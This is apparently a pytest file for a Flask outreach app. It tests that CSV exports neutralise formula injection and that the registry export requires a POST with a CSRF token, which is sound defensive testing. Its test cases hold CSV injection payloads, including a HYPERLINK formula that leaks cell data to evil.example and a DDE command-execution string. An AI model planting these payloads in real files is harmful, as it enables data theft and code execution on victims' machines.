"""Item 6 of the security issue: one CSV writer neutralises formulas in every export, and the registry
export is a POST that needs the CSRF token."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from flask import Flask

from outreach.csvexport import csv_bytes, safe_cell
from tests.conftest import login
from tests.foundation.conftest import csrf_token

PACKAGE = Path(__file__).resolve().parents[2] / "outreach"


@pytest.mark.parametrize(
    ("raw", "cell"),
    [
        (
            '=HYPERLINK("http://evil.example/?d="&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?d="&A1,"click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1,2)", "'@SUM(1,2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("+85512345678", "+85512345678"),  # an E.164 number stays dialable
        ("-12", "-12"),
        ("홍길동", "홍길동"),
        ("", ""),
        (None, ""),
        (42, "42"),
    ],
)
def test_the_writer_neutralises_formulas(raw: Any, cell: str) -> None:
    assert safe_cell(raw) == cell
    rows = list(csv.reader(io.StringIO(csv_bytes(["h"], [[raw]]).decode("utf-8-sig"))))
    assert rows == [["h"], [cell]]


def test_every_export_uses_the_one_writer() -> None:
    """No private copy of the neutraliser: only outreach/csvexport.py makes CSV writers."""
    writers = [
        str(path.relative_to(PACKAGE))
        for path in PACKAGE.rglob("*.py")
        if "build" not in path.parts  # data build scripts write reference data, not exports
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert writers == ["csvexport.py"]


def test_registry_export_neutralises_what_the_public_planted(
    app: Flask, make_user: Callable[..., Any], make_person: Callable[..., int]
) -> None:
    make_person(
        phone="+85512345678",
        name_latin='=HYPERLINK("http://evil.example/steal","Hong")',
        name_ko="@SUM(1)",
        district_note="+cmd|' /C calc'!A0",
        emergency_name="-1+1",
        emergency_relation="=1+1",
        emergency_phone="+821012345678",
    )
    client = app.test_client()
    login(client, make_user("officer"))
    response = client.post("/staff/people/export.csv")
    assert response.status_code == 200
    row = next(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert row["name_latin"] == '\'=HYPERLINK("http://evil.example/steal","Hong")'
    assert row["name_ko"] == "'@SUM(1)"
    assert row["district_note"] == "'+cmd|' /C calc'!A0"
    assert (row["emergency_name"], row["emergency_relation"]) == ("'-1+1", "'=1+1")
    assert (row["phone"], row["emergency_phone"]) == ("+85512345678", "+821012345678")


def test_registry_export_is_a_post_with_csrf(
    make_app: Callable[..., Flask], make_user: Callable[..., Any]
) -> None:
    app = make_app(WTF_CSRF_ENABLED=True)
    client = app.test_client()
    login(client, make_user("officer"))
    # A cross-site link (GET) or a forged form (no token) downloads nothing.
    assert client.get("/staff/people/export.csv").status_code == 405
    assert client.post("/staff/people/export.csv").status_code == 400
    page = client.get("/staff/people?province=KH-12").get_data(as_text=True)
    assert 'action="/staff/people/export.csv"' in page and 'name="province" value="KH-12"' in page
    response = client.post(
        "/staff/people/export.csv", data={"csrf_token": csrf_token(page), "province": "KH-12"}
    )
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.get_data(as_text=True).startswith("\ufeffid,")
